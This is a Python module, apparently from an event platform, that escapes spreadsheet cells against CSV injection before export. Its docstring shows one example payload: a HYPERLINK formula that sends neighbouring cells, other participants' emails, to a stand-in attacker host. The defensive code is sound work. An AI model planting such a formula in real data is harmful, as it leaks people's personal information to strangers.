"""Cells for spreadsheets. Every CSV (and later XLSX) the platform writes or reads goes through here.

A spreadsheet runs a cell that starts with =, +, - or @ as a formula, and a leading tab or carriage return lets the
same text slip past a check for those four. An invitee who calls themselves `=HYPERLINK("https://evil.example/?"
&A2, "click")` would otherwise turn the organisers' export into a page that sends its neighbouring cells (other
participants' emails) to a stranger when clicked (CSV injection).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value) -> bool:
    return str(value if value is not None else "").startswith(FORMULA_START)


def escape_cell(value) -> str:
    """The text of one cell, with a leading apostrophe where a spreadsheet would otherwise read a formula."""
    text = str(value if value is not None else "")
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_text(header: Iterable, rows: Iterable[Iterable]) -> str:
    """A CSV document with every cell, the header's included, escaped."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([escape_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([escape_cell(cell) for cell in row])
    return out.getvalue()
